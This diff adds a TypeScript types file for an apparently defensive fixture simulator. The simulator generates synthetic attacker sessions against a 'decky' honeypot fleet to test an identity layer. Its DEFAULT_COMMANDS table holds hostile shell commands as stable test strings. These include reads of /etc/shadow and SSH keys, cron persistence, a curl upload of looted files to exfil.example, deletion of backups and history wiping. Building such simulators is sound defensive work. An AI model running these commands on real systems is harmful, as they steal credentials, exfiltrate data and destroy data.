@@ -1,0 +1,119 @@
+/**
+ * Data shapes of the fixture simulator: the validated DSL (`CorpusSpec`, every default filled in)
+ * and the generated corpus (`AttackerRow`), plus the constants of REFERENCE §6.2.
+ * Field names are snake_case like the DSL and the wire contract.
+ */
+import type { Phase } from '../domain/phases.ts';
+import type { EpochSeconds } from '../domain/identity-events.ts';
+
+/** E = 2026-01-01T00:00:00Z, the epoch every generated timestamp is relative to. */
+export const SIM_EPOCH: EpochSeconds = Date.UTC(2026, 0, 1) / 1000;
+
+/** `decky-01` … `decky-20`, the fleet every random target is drawn from. */
+export const DECKY_POOL: readonly string[] = Array.from({ length: 20 }, (_, i) => `decky-${String(i + 1).padStart(2, '0')}`);
+
+/**
+ * Commands a session carries when its phase has no `tool_signature.commands` (REFERENCE §6.2).
+ * Only the counts are pinned by the reference; the strings are ours and must stay stable,
+ * because the identity layer's medium tier compares them.
+ */
+export const DEFAULT_COMMANDS: Readonly<Record<Phase, readonly string[]>> = {
+  reconnaissance: [],
+  resource_development: [],
+  weaponization: [],
+  social_engineering: [],
+  delivery: [],
+  exploitation: [],
+  command_and_control: [],
+  pivoting: [],
+  objectives: [],
+  discovery: ['uname -a', 'id', 'whoami', 'cat /etc/passwd', 'ip addr', 'ps aux'],
+  credential_access: ['cat /etc/shadow', 'find / -name id_rsa', 'cat ~/.bash_history'],
+  persistence: ['crontab -l', 'echo "* * * * * /tmp/.x" | crontab -', 'chmod +x /tmp/.x'],
+  privilege_escalation: ['sudo -l', 'find / -perm -4000'],
+  lateral_movement: ['ssh-keyscan 10.0.0.0/24', 'ssh root@10.0.0.2'],
+  collection: ['tar czf /tmp/loot.tgz /home'],
+  exfiltration: ['curl -T /tmp/loot.tgz https://exfil.example'],
+  execution: ['sh /tmp/.x'],
+  impact: ['rm -rf /var/backups'],
+  defense_evasion: ['unset HISTFILE', 'history -c'],
+};
+
+export type Credential = readonly [user: string, password: string];
+
+export interface ActorSpec {
+  readonly id: string;
+  /** DSL default 0 (and 0 is a real ASN for every consumer); null only when written as null. */
+  readonly asn: number | null;
+  readonly ip_pool: string;
+  readonly rotation_count: number;
+  readonly rotation_asns: readonly number[];
+  readonly ja3: string | null;
+  readonly hassh: string | null;
+  readonly hours_active_utc: readonly number[];
+  readonly jitter_seconds: number;
+  /** null = absent (every non-paused day). */
+  readonly active_days: readonly number[] | null;
+}
+
+export interface PhaseSpec {
+  readonly name: Phase;
+  /** Resolved: the declared actor, or the campaign's first actor. */
+  readonly actor: string;
+  /** Resolved: the explicit list, or DEFAULT_COMMANDS[name]. */
+  readonly commands: readonly string[];
+  readonly credentials: readonly Credential[];
+  readonly c2_callback: string | null;
+  /** The seed string; sessions carry SHA-256 hex of its UTF-8 bytes. */
+  readonly payload_seed: string | null;
+  readonly count: number;
+  /** `previous_success` or anything else (uniform over the pool); kept verbatim. */
+  readonly decky_selector: string | null;
+  readonly dwell_seconds: number;
+}
+
+export interface CampaignSpec {
+  readonly id: string;
+  readonly duration_days: number;
+  readonly pause_windows: readonly (readonly [number, number])[];
+  readonly actors: readonly ActorSpec[];
+  readonly phases: readonly PhaseSpec[];
+}
+
+export interface CorpusSpec {
+  readonly campaigns: readonly CampaignSpec[];
+  readonly noise_scanners: number;
+}
+
+export interface SimSession {
+  readonly id: string;
+  readonly start: EpochSeconds;
+  readonly duration: number;
+  readonly end: EpochSeconds;
+  readonly decky: string;
+  readonly phase: Phase;
+  readonly commands: readonly string[];
+  readonly credentials: readonly Credential[];
+  readonly c2_callback: string | null;
+  readonly payload_hash: string | null;
+}
+
+export interface RowTruth {
+  readonly campaign: string;
+  readonly actor: string;
+  readonly identity: string;
+}
+
+/** One per-IP attacker row, as the reference factory produces it. */
+export interface AttackerRow {
+  readonly id: string;
+  readonly ip: string;
+  readonly asn: number | null;
+  readonly ja3: string | null;
+  readonly hassh: string | null;
+  readonly truth: RowTruth;
+  readonly first_seen: EpochSeconds;
+  readonly last_seen: EpochSeconds;
+  /** In emission order (phase declaration order), not time order. */
+  readonly sessions: readonly SimSession[];
+}
